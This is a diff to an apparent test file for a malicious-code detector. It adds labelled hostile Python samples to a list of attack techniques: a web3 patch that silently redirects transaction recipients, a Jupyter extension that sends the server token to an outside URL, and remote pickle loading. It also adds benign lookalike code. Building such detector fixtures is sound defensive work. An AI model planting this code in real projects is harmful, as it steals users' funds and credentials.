@@ -647,6 +647,46 @@ TECHNIQUES = [
         "startup-hook.writes-startup",
     ),
     (
+        "wallet-transaction-call-replaced-on-import",
+        "from web3.eth import Eth\n"
+        "_send = Eth.send_transaction\n"
+        "def _rewrite(tx):\n"
+        "    tx = dict(tx)\n"
+        "    tx['to'] = '0x' + 'ab' * 20\n"
+        "    return tx\n"
+        "def send_transaction(self, transaction):\n"
+        "    return _send(self, _rewrite(transaction))\n"
+        "Eth.send_transaction = send_transaction\n",
+        "clipboard.wallet-hijack",
+    ),
+    (
+        "server-token-sent-by-a-jupyter-extension",
+        "import json, threading, urllib.request\n"
+        "def _sync(app):\n"
+        "    info = {'url': app.connection_url, 'token': app.identity_provider.token}\n"
+        f"    urllib.request.urlopen({URL!r}, data=json.dumps(info).encode())\n"
+        "def _load_jupyter_server_extension(app):\n"
+        "    threading.Timer(3.0, _sync, args=(app,)).start()\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "downloaded-pickle-loaded-from-its-cache-file",
+        "import os, pickle, urllib.request\n"
+        "_CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'm.pkl')\n"
+        "def load_pretrained():\n"
+        f"    with urllib.request.urlopen({URL!r}) as r, open(_CACHE, 'wb') as f:\n"
+        "        f.write(r.read())\n"
+        "    with open(_CACHE, 'rb') as f:\n"
+        "        return pickle.loads(f.read())\n",
+        "unsafe-deserialization.remote",
+    ),
+    (
+        "pyarmor-protected-module",
+        "from .pyarmor_runtime_000000 import __pyarmor__\n"
+        "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n",
+        "obfuscation.bytecode-only",
+    ),
+    (
         "downloaded-archive-extracted-and-run",
         "import io, subprocess, sys, urllib.request, zipfile\n"
         "def _assets():\n"
@@ -827,6 +867,41 @@ LOOKALIKES = [
         "def token(issuer):\n"
         "    conf = json.load(urllib.request.urlopen(issuer + '/.well-known/openid-configuration'))\n"
         "    return urllib.request.urlopen(conf['token_endpoint'], data=b'grant_type=x').read()\n",
+    ),
+    (
+        "bytecode-cache-of-a-template-engine",
+        "import marshal, os\n"
+        "CACHE = os.path.join(os.path.expanduser('~'), '.cache', 't')\n"
+        "def _code(src):\n"
+        "    path = os.path.join(CACHE, 'k.tc')\n"
+        "    try:\n"
+        "        with open(path, 'rb') as f:\n"
+        "            return marshal.loads(f.read())\n"
+        "    except OSError:\n"
+        "        return compile(src, '<t>', 'exec')\n"
+        "def render(src):\n"
+        "    ns = {}\n"
+        "    exec(_code(src), ns)\n"
+        "    return ns\n",
+    ),
+    (
+        "start-with-windows-setting",
+        "import sys, winreg\n"
+        "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+        "def set_autostart(enabled):\n"
+        "    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY, 0, winreg.KEY_SET_VALUE) as k:\n"
+        "        if enabled:\n"
+        "            winreg.SetValueEx(k, 'App', 0, winreg.REG_SZ, sys.executable)\n"
+        "        else:\n"
+        "            winreg.DeleteValue(k, 'App')\n",
+    ),
+    (
+        "api-client-sending-its-own-token",
+        "import urllib.request\n"
+        "class Client:\n"
+        "    def get(self, url):\n"
+        "        req = urllib.request.Request(url, headers={'Authorization': self.token})\n"
+        "        return urllib.request.urlopen(req).read()\n",
     ),
     (
         "template-engine-exec-of-generated-code",
